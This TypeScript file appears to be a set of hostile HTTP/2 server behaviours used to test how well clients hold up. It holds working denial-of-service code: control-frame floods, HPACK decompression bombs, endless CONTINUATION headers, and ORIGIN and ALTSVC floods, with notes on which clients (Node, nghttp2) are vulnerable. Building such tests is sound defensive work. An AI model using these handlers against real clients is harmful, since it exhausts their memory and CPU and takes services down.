import {
  ACK,
  CONTINUATION,
  DATA,
  END_HEADERS,
  type Field,
  frame,
  HEADERS,
  indexedFields,
  PING,
  plainFields,
  prefixed,
  PRIORITY,
  reference,
  SETTINGS,
  settings,
  settingsAck,
  uint32,
  UNKNOWN,
  WINDOW_UPDATE,
} from "@interop/server-hardening/testing"
import { type HostileServer, responseFields, responseHeaders } from "./hostile-server.ts"

const ALTSVC = 0xa
const ORIGIN = 0xc
const INITIAL_WINDOW_SIZE = 4

/** So much is sent after the headers of a response, without end. */
function flood(bytesFor: (streamId: number) => Buffer): HostileServer {
  return async (connection) => {
    const streamId = await connection.firstCall()
    await connection.send(responseHeaders(streamId))
    await connection.flood(bytesFor(streamId))
  }
}

export const pingFlood = flood(() => frame(PING, 0, 0, Buffer.alloc(8)))
export const pingAckFlood = flood(() => frame(PING, ACK, 0, Buffer.alloc(8)))
export const settingsFlood = flood(() => settings(65_535))
export const settingsAckFlood = flood(() => settingsAck)
export const priorityFlood = flood((streamId) => frame(PRIORITY, 0, streamId, Buffer.alloc(5)))
export const unknownFrameFlood = flood(() => frame(UNKNOWN, 0, 0, Buffer.alloc(100)))
export const emptyDataFlood = flood((streamId) => frame(DATA, 0, streamId))

/** By one byte; they overflow after 2 GiB only. */
export const windowUpdateFlood = flood((streamId) =>
  Buffer.concat([
    frame(WINDOW_UPDATE, 0, streamId, uint32(1)),
    frame(WINDOW_UPDATE, 0, 0, uint32(1)),
  ]),
)

/** In one frame, as many as it holds. */
export const manySettings = flood(() => {
  const entry = Buffer.alloc(6)
  entry.writeUInt16BE(INITIAL_WINDOW_SIZE)
  entry.writeUInt32BE(65_535, 2)
  return frame(SETTINGS, 0, 0, Buffer.concat(Array.from({ length: 2700 }, () => entry)))
})

export const informationalFlood: HostileServer = async (connection) => {
  const streamId = await connection.firstCall()
  await connection.flood(responseHeaders(streamId, [[":status", "103"]]))
}

/** Informational headers, each of which is large for the client and small on the wire. */
export const hpackBomb: HostileServer = async (connection) => {
  const streamId = await connection.firstCall()
  const status: Field = [":status", "103"]
  const large: Field = ["x", "x".repeat(3900)]
  const first = indexedFields([status, large])
  await connection.send(frame(HEADERS, END_HEADERS, streamId, first))
  const references = Buffer.alloc(16_000, reference(0))
  references[0] = reference(1)
  await connection.flood(frame(HEADERS, END_HEADERS, streamId, references))
}

/** As many as nghttp2 takes in a block, again and again. */
export const smallHpackBomb: HostileServer = async (connection) => {
  const streamId = await connection.firstCall()
  const first = indexedFields([
    [":status", "103"],
    ["x", "x".repeat(3900)],
  ])
  await connection.send(frame(HEADERS, END_HEADERS, streamId, first))
  const references = Buffer.alloc(15, reference(0))
  references[0] = reference(1)
  await connection.flood(frame(HEADERS, END_HEADERS, streamId, references))
}

export const endlessHeaders: HostileServer = async (connection) => {
  const streamId = await connection.firstCall()
  await connection.send(frame(HEADERS, 0, streamId, plainFields(responseFields)))
  const field = plainFields([["x", "x".repeat(1000)]])
  await connection.flood(frame(CONTINUATION, 0, streamId, field))
}

export const emptyContinuations: HostileServer = async (connection) => {
  const streamId = await connection.firstCall()
  await connection.send(frame(HEADERS, 0, streamId, plainFields(responseFields)))
  await connection.flood(frame(CONTINUATION, 0, streamId))
}

export const endlessTrailers: HostileServer = async (connection) => {
  const streamId = await connection.firstCall()
  await connection.send(responseHeaders(streamId), frame(HEADERS, 0, streamId))
  const field = plainFields([["x", "x".repeat(1000)]])
  await connection.flood(frame(CONTINUATION, 0, streamId, field))
}

export const endlessMessages = flood((streamId) =>
  frame(DATA, 0, streamId, Buffer.concat(Array.from({ length: 1000 }, () => prefixed(nine)))),
)
const nine = Buffer.from("090000000000002240", "hex")

export const emptyMessages = flood((streamId) => frame(DATA, 0, streamId, Buffer.alloc(16_000)))

/** Names of servers that never come twice: Node keeps each, over TLS. */
export const originFlood: HostileServer = async (connection) => {
  const streamId = await connection.firstCall()
  await connection.send(responseHeaders(streamId))
  for (let number = 0; !connection.closed;) {
    const origins: Buffer[] = []
    for (let bytes = 0; bytes < 15_000; number += 1) {
      const origin = Buffer.from(`https://${number}.example`)
      const length = Buffer.alloc(2)
      length.writeUInt16BE(origin.length)
      origins.push(length, origin)
      bytes += 2 + origin.length
    }
    await connection.send(frame(ORIGIN, 0, 0, Buffer.concat(origins)))
  }
}

export const alternativeServiceFlood = flood(() => {
  const origin = Buffer.from("http://localhost")
  const length = Buffer.alloc(2)
  length.writeUInt16BE(origin.length)
  return frame(ALTSVC, 0, 0, Buffer.concat([length, origin, Buffer.from('h2=":443"')]))
})
